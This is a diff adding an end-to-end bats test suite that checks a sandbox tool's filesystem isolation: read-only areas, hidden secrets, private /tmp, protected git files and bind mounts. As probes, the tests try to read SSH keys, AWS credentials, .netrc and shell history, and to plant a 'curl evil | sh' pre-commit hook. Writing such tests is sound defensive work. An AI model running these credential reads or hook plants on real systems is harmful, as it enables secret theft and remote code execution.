@@ -1,0 +1,121 @@
+#!/usr/bin/env bats
+# Filesystem view: workspace read-write, rest read-only, secrets hidden, /tmp private,
+# protected files in the workspace, bind mounts from the config.
+bats_require_minimum_version 1.5.0
+load sandbox_common
+
+setup() { sandbox_setup; }
+teardown() { sandbox_teardown; }
+
+@test "writes outside the workspace do not land on the host" {
+  run sbx -- sh -c "touch '$HOME/outside' ; echo x > '$ROOT/also'; touch /etc/vg-e2e-probe; true"
+  [ "$status" -eq 0 ]
+  [ ! -e "$HOME/outside" ]
+  [ ! -e "$ROOT/also" ]
+  [ ! -e /etc/vg-e2e-probe ]
+}
+
+@test "workspace writes land, owned by the invoking user" {
+  run sbx -- sh -c 'mkdir -p out && echo built > out/result.txt'
+  [ "$status" -eq 0 ]
+  [ "$(cat "$WS/out/result.txt")" = built ]
+  [ "$(stat -c %u "$WS/out/result.txt")" = "$(id -u)" ]
+  [ "$(stat -c %g "$WS/out/result.txt")" = "$(id -g)" ]
+}
+
+@test "~/.ssh and ~/.aws are unreadable inside" {
+  run --separate-stderr sbx -- sh -c "cat '$HOME/.ssh/id_ed25519'; ls '$HOME/.ssh'; cat '$HOME/.aws/credentials'"
+  [[ $output != *ssh-secret* ]]
+  [[ $output != *aws-secret* ]]
+  [[ $output != *id_ed25519* ]]
+  [ "$status" -ne 0 ]
+}
+
+@test "secret files (netrc, shell history) are unreadable" {
+  run --separate-stderr sbx -- sh -c "cat '$HOME/.netrc' '$HOME/.bash_history'"
+  [ "$status" -ne 0 ]
+  [ -z "$output" ]
+  run --separate-stderr sbx -- sh -c "echo planted > '$HOME/.bash_history'"
+  [ "$status" -ne 0 ]
+  [ "$(cat "$HOME/.bash_history")" = history-secret ]
+}
+
+@test "secrets stay hidden when the workspace is the home directory" {
+  cd "$HOME"
+  run --separate-stderr sbx -- sh -c "cat .ssh/id_ed25519 .netrc; touch made-in-home"
+  [[ $output != *ssh-secret* && $output != *netrc-secret* ]]
+  [ -e "$HOME/made-in-home" ]
+}
+
+@test "VG_HOME is hidden and not writable" {
+  run --separate-stderr sbx -- sh -c "cat '$VG_HOME/trust.json'; touch '$VG_HOME/planted'; echo '{}' > '$VG_HOME/trust.json'"
+  [ "$status" -ne 0 ]
+  [[ $output != *trusted* ]]
+  [ ! -e "$VG_HOME/planted" ]
+  [ "$(cat "$VG_HOME/trust.json")" = '{"trusted": []}' ]
+}
+
+@test ".git/hooks and .git/config are read-only in the workspace" {
+  run sbx -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit; echo "[core] hooksPath=/x" >> .git/config; touch .git/hooks/post-checkout'
+  [ "$status" -ne 0 ]
+  [ "$(cat "$WS/.git/hooks/pre-commit")" = "$(printf '#!/bin/sh\nexit 0')" ]
+  ! grep -q hooksPath "$WS/.git/config"
+  [ ! -e "$WS/.git/hooks/post-checkout" ]
+  # The rest of .git stays writable: git must work.
+  run sbx -- sh -c 'echo ref > .git/HEAD_probe'
+  [ "$status" -eq 0 ]
+  [ -e "$WS/.git/HEAD_probe" ]
+}
+
+@test "the project's vectra-guard.ini is read-only" {
+  printf '[sandbox]\nsecurity_level = strict\n' >"$WS/vectra-guard.ini"
+  run sbx -- sh -c 'echo "[sandbox]" > vectra-guard.ini'
+  [ "$status" -ne 0 ]
+  grep -q strict "$WS/vectra-guard.ini"
+}
+
+@test "/tmp is private" {
+  marker=$(mktemp /tmp/vg-e2e-host.XXXXXX)
+  run --separate-stderr sbx -- sh -c "ls '$marker' 2>/dev/null; echo inside > /tmp/vg-e2e-inside-$$; cat /tmp/vg-e2e-inside-$$"
+  rm -f "$marker"
+  [ "$status" -eq 0 ]
+  [ "$output" = inside ]
+  [ ! -e /tmp/vg-e2e-inside-$$ ]
+}
+
+@test "/proc is the sandbox's own and /dev is minimal" {
+  run --separate-stderr sbx -- sh -c 'ls /proc | grep -c "^[0-9]"; ls /dev'
+  [ "$status" -eq 0 ]
+  [ "${lines[0]}" -le 4 ]
+  [[ $output == *null* && $output == *urandom* ]]
+  [[ $output != *sda* && $output != *vda* && $output != *nvme* ]]
+}
+
+@test "bind_mounts from the config: ro is read-only, rw is writable" {
+  mkdir -p "$ROOT/cache" "$ROOT/data" "$ROOT/mnt-data"
+  echo seed >"$ROOT/data/input"
+  printf '[sandbox]\nbind_mounts = %s:rw, %s:%s:ro\n' "$ROOT/cache" "$ROOT/data" "$ROOT/mnt-data" >"$ROOT/binds.ini"
+  run --separate-stderr "$VG" --config "$ROOT/binds.ini" sandbox run -- sh -c \
+    "echo cached > '$ROOT/cache/entry' && cat '$ROOT/mnt-data/input' && ! echo x > '$ROOT/mnt-data/input'"
+  [ "$status" -eq 0 ]
+  [[ $output == *seed* ]]
+  [ "$(cat "$ROOT/cache/entry")" = cached ]
+  [ "$(cat "$ROOT/data/input")" = seed ]
+}
+
+@test "a bind mount target that cannot exist fails closed with a sentence" {
+  mkdir -p "$ROOT/data"
+  printf '[sandbox]\nbind_mounts = %s:/vg-e2e-no-such-dir\n' "$ROOT/data" >"$ROOT/bad.ini"
+  run --separate-stderr "$VG" --config "$ROOT/bad.ini" sandbox run -- echo ran
+  [ "$status" -eq 125 ]
+  [[ $output != *ran* ]]
+  [[ $stderr == *"bind mount target"* ]]
+}
+
+@test "a missing bind mount source fails closed with a sentence" {
+  printf '[sandbox]\nbind_mounts = %s/nope\n' "$ROOT" >"$ROOT/bad.ini"
+  run --separate-stderr "$VG" --config "$ROOT/bad.ini" sandbox run -- echo ran
+  [ "$status" -eq 125 ]
+  [[ $output != *ran* ]]
+  [[ $stderr == *"bind mount source"* ]]
+}
